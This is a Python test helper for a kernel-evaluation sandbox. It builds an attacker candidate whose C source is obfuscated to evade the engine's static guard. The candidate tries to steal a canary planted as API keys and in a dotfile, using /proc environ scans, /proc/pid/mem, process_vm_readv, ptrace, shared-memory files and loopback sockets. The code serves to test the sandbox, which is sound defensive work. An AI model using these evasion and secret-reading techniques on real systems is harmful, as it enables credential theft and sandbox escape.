"""An attacker's candidate, for the sandbox tests: native code that tries every channel to the engine's
secrets, other processes and the user's files, written to pass the static guard.

The C source hides its calls from the guard's regular expressions the way an attacker would: token
pasting (`J(op,en)` is `open`), string literals split in C ("/pr" "oc") and split across `+` in
Python. Each probe returns 0 or a positive count when it reached its target, and -errno when it did
not; `forward` raises them all in one message, `PROBE name=value ... END`, which the verdict carries.

The engine (a subprocess with a canary in its environment, `run_engine`) fills in its own pid, the
address of its environment block and the paths of its home and workspace before evaluating, so the
probes aim at the real targets, as an attacker who knew them would.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

ROOT = Path(__file__).parent.parent

PROBE_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <arpa/inet.h>
#include <unistd.h>

#define J(a, b) a##b
#define CANARY "@CANARY@"
#define ENGINE ((pid_t)@ENGINE_PID@)
#define ENV_START ((uintptr_t)@ENV_START@ULL)
#define ENV_LEN ((size_t)@ENV_LEN@)

static char buf[1 << 16];

/* 1 if the file holds CANARY (or `needle`), 0 if it was read and does not, -errno if it cannot be read */
static int64_t grep_file(const char *path, const char *needle) {
    int fd = J(op, en)(path, O_RDONLY);
    if (fd < 0) return -errno;
    ssize_t n = J(re, ad)(fd, buf, sizeof buf - 1);
    int err = errno;
    close(fd);
    if (n < 0) return -err;
    return memmem(buf, (size_t)n, needle, strlen(needle)) != NULL;
}

static void proc_path(char *out, long pid, const char *leaf) {
    strcpy(out, "/pr" "oc/");
    char num[32];
    int i = 30;
    num[31] = 0;
    do { num[i--] = (char)('0' + pid % 10); pid /= 10; } while (pid);
    strcat(out, num + i + 1);
    strcat(out, "/");
    strcat(out, leaf);
}

/* files among every /proc/<pid>/environ that hold the canary */
@EXPORT@int64_t environ_scan(void) {
    DIR *d = J(open, dir)("/pr" "oc");
    if (!d) return -errno;
    int64_t hits = 0;
    struct dirent *e;
    char path[64];
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        proc_path(path, atol(e->d_name), "env" "iron");
        if (grep_file(path, CANARY) == 1) hits++;
    }
    closedir(d);
    return hits;
}

@EXPORT@int64_t environ_engine(void) {
    char path[64];
    proc_path(path, ENGINE, "env" "iron");
    return grep_file(path, CANARY);
}

@EXPORT@int64_t environ_parent(void) {
    char path[64];
    proc_path(path, getppid(), "env" "iron");
    return grep_file(path, CANARY);
}

/* the engine's environment block, read through /proc/<pid>/mem */
@EXPORT@int64_t mem_file(void) {
    char path[64];
    proc_path(path, ENGINE, "mem");
    int fd = J(op, en)(path, O_RDONLY);
    if (fd < 0) return -errno;
    ssize_t n = pread(fd, buf, ENV_LEN, (off_t)ENV_START);
    int err = errno;
    close(fd);
    if (n < 0) return -err;
    return memmem(buf, (size_t)n, CANARY, strlen(CANARY)) != NULL;
}

/* the same block through process_vm_readv */
@EXPORT@int64_t vm_readv(void) {
    struct iovec local = {buf, ENV_LEN}, remote = {(void *)ENV_START, ENV_LEN};
    ssize_t n = J(process_vm, _readv)(ENGINE, &local, 1, &remote, 1, 0);
    if (n < 0) return -errno;
    return memmem(buf, (size_t)n, CANARY, strlen(CANARY)) != NULL;
}

@EXPORT@int64_t ptrace_engine(void) {
    if (J(ptr, ace)(PTRACE_ATTACH, ENGINE, NULL, NULL) != 0) return -errno;
    waitpid(ENGINE, NULL, __WALL);
    J(ptr, ace)(PTRACE_DETACH, ENGINE, NULL, NULL);
    return 1;
}

@EXPORT@int64_t home_file(void) { return grep_file("@HOME_SECRET@", CANARY); }

@EXPORT@int64_t workspace_db(void) { return grep_file("@WORKSPACE_DB@", "SQLite format 3"); }

@EXPORT@int64_t shm_write(void) {
    int fd = J(op, en)("/dev/" "shm/@SHM_NAME@", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) return -errno;
    ssize_t n = J(wr, ite)(fd, CANARY, strlen(CANARY));
    close(fd);
    return n > 0 ? 1 : -errno;
}

@EXPORT@int64_t shm_read(void) { return grep_file("/dev/" "shm/@SHM_NAME@", CANARY); }

@EXPORT@int64_t tcp(void) {
    int s = J(sock, et)(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return -errno;
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t)@PORT@);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int rc = J(con, nect)(s, (struct sockaddr *)&a, sizeof a);
    int err = errno;
    if (rc == 0) J(wr, ite)(s, CANARY, strlen(CANARY));
    close(s);
    return rc == 0 ? 1 : -err;
}

@EXPORT@int64_t abstract_unix(void) {
    int s = J(sock, et)(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0) return -errno;
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    const char *name = "@UNIX_NAME@";
    memcpy(a.sun_path + 1, name, strlen(name));
    socklen_t len = (socklen_t)(sizeof(sa_family_t) + 1 + strlen(name));
    int rc = J(con, nect)(s, (struct sockaddr *)&a, len);
    int err = errno;
    if (rc == 0) J(wr, ite)(s, CANARY, strlen(CANARY));
    close(s);
    return rc == 0 ? 1 : -err;
}
"""

CUDA_KERNEL = r"""
__global__ void fill(float *y, int n) { int i = blockIdx.x * blockDim.x + threadIdx.x; if (i < n) y[i] = 0.f; }
extern "C" void touch(float *y, int n, cudaStream_t stream) { fill<<<(n + 255) / 256, 256, 0, stream>>>(y, n); }
"""

CHANNELS = (
    "environ_scan", "environ_engine", "environ_parent", "mem_file", "vm_readv", "ptrace_engine",
    "home_file", "workspace_db", "shm_write", "shm_read", "tcp", "abstract_unix",
)  # fmt: skip


def attacker(language: str = "c", shm_only: bool = False) -> str:
    """The candidate (a template; the engine fills in the @...@ fields). `shm_only`: a second
    candidate that only looks for what the first left in /dev/shm."""
    channels = ("shm_read",) if shm_only else CHANNELS
    source = PROBE_C.replace("@EXPORT@", 'extern "C" ' if language == "cuda" else "")
    if language == "cuda":
        source = source.replace("#define _GNU_SOURCE\n", "") + CUDA_KERNEL
    compiler = "compile_cuda" if language == "cuda" else "compile_c"
    head, tail = source[: len(source) // 2], source[len(source) // 2 :]
    probes = " + ".join(f'" {c}=" + str(_p.{c}())' for c in channels)
    touch = "        _p.touch(x, x.numel())\n" if language == "cuda" else ""
    return f'''import torch
import torch.nn as nn
from kernelevolve.native import {compiler}

_HEAD = r"""{head}"""
_TAIL = r"""{tail}"""
_p = {compiler}(_HEAD + _TAIL)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
{touch}        raise RuntimeError("PROBE" + {probes} + " END")
'''


def parse(text: str) -> dict[str, int]:
    m = re.search(r"PROBE((?: \w+=-?\d+)+) END", text)
    assert m is not None, text[-3000:]
    return {k: int(v) for k, v in (kv.split("=") for kv in m[1].split())}


ENGINE = r"""
import json, os, sys
from pathlib import Path

config = json.loads(sys.argv[1])
env_start, env_end = (int(f) for f in Path("/proc/self/stat").read_text().rsplit(")", 1)[1].split()[45:47])
fields = {
    "@ENGINE_PID@": str(os.getpid()), "@ENV_START@": str(env_start),
    "@ENV_LEN@": str(min(env_end - env_start, 60000)),
}
fields.update(config["fields"])
sources = []
for s in config["sources"]:
    for k, v in fields.items():
        s = s.replace(k, v)
    sources.append(s)

from kernelevolve.platforms import get_platform
from kernelevolve.spec import load_spec
from kernelevolve.store.workspace import Workspace
from tests.conftest import harness_settings

settings = harness_settings(Path(config["tmp"]), config["platform"], spares=0, compile_timeout_s=120,
                            run_timeout_s=60, profile_timeout_s=180, **config["overrides"])
Workspace.open(settings.workspace).close()  # a real store for the probe to aim at
spec, platform = load_spec(config["spec"]), get_platform(config["platform"])
out = []
if config["mode"] == "evaluate":
    from kernelevolve.evaluate import EvaluatorPool

    with EvaluatorPool(spec, platform, settings) as pool:
        for i, source in enumerate(sources):
            v = pool.evaluate_one(source, f"attacker_{i}.py")
            out.append({"status": str(v.status), "message": v.message,
                        "notes": v.method.notes if v.method else []})
else:
    from kernelevolve.profile.run import profile_candidate

    for source in sources:
        res = profile_candidate(spec, platform, source, settings, mode=config["mode"])
        out.append({"status": "profiled", "message": "\n".join(res["errors"]), "notes": []})
print("ENGINE-RESULT " + json.dumps(out))
"""


@contextmanager
def listeners(tag: str) -> Iterator[tuple[socket.socket, socket.socket]]:
    """A TCP listener on 127.0.0.1 and one on the abstract Unix socket `tag`, in this test's namespace."""
    with socket.create_server(("127.0.0.1", 0), backlog=16) as tcp_server:
        unix_server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            unix_server.bind("\0" + tag)
            unix_server.listen(16)
            tcp_server.settimeout(0.2)
            unix_server.settimeout(0.2)
            yield tcp_server, unix_server
        finally:
            unix_server.close()


def accepted(server: socket.socket) -> bool:
    """Whether anything connected to `server` (its backlog holds connections made while it waited)."""
    try:
        server.accept()[0].close()
        return True
    except (TimeoutError, OSError):
        return False


def run_engine(
    tmp: Path, sources: list[str], canary: str, platform: str, spec: Path, mode: str = "evaluate",
    fields: dict[str, str] | None = None, **overrides: object,
) -> list[dict[str, object]]:  # fmt: skip
    """Evaluate (or profile) `sources` in an engine process of its own whose environment holds the
    canary as OPENAI_API_KEY and ANTHROPIC_API_KEY, whose HOME holds it in a dotfile."""
    home = tmp / "home"
    (home / ".ray").mkdir(parents=True, exist_ok=True)
    (home / ".ray" / "auth_token").write_text(canary)
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    env.update(OPENAI_API_KEY=canary, ANTHROPIC_API_KEY=canary, HOME=str(home))
    env["PYTHONPATH"] = os.pathsep.join((str(ROOT / "src"), str(ROOT)))
    config = {
        "tmp": str(tmp), "platform": platform, "spec": str(spec), "mode": mode, "sources": sources,
        "overrides": overrides,
        "fields": {"@CANARY@": canary, "@HOME_SECRET@": str(home / ".ray" / "auth_token"),
                   "@WORKSPACE_DB@": str(tmp / "ws" / "kernelevolve.db"), **(fields or {})},
    }  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-c", ENGINE, json.dumps(config)],
        env=env, cwd=ROOT, capture_output=True, text=True, timeout=900, check=False,
    )  # fmt: skip
    line = [ln for ln in done.stdout.splitlines() if ln.startswith("ENGINE-RESULT ")]
    assert done.returncode == 0 and line, done.stderr[-4000:]
    result: list[dict[str, object]] = json.loads(line[0].removeprefix("ENGINE-RESULT "))
    return result
